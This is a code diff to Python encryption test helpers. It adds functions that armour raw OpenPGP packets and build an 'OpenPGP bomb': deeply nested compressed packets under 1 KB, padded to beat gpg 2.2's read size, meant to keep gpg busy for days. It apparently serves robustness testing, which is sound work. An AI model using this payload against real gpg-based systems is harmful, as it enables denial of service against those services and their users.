@@ -1,6 +1,8 @@
 """Encryption as a source does it before sending, with standard tools."""
 
+import base64
 import subprocess
+import zlib
 from collections.abc import Sequence
 
 from crypto import age
@@ -33,3 +35,24 @@ def gpg_file(home: GpgHome, fingerprint: str, content: bytes, *options: str) -> 
 
 def gpg_armour(home: GpgHome, fingerprint: str, content: bytes, *options: str) -> str:
     return gpg_file(home, fingerprint, content, "-a", *options).decode()
+
+
+def openpgp_armour(packets: bytes) -> str:
+    lines = base64.encodebytes(packets).decode()
+    return f"-----BEGIN PGP MESSAGE-----\n\n{lines}-----END PGP MESSAGE-----\n"
+
+
+def openpgp_bomb(depth: int = 6, siblings: int = 32) -> bytes:
+    """Return OpenPGP packets of less than 1 KB with which gpg would be busy for days, without any output.
+
+    Each packet contains 32 compressed packets, six levels deep. gpg 2.2 skips what is left of the 2,048 bytes
+    that it reads at once, so each packet is padded to this size.
+    """
+    packet = b"\xca\x03PGP"  # a marker, which readers ignore
+    for level in range(depth):
+        deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+        body = b"\x01" + deflate.compress(packet * siblings) + deflate.flush()
+        if level < depth - 1:
+            body += bytes(-(len(body) - 1) % 2048)
+        packet = b"\xc8\xff" + len(body).to_bytes(4, "big") + body
+    return packet
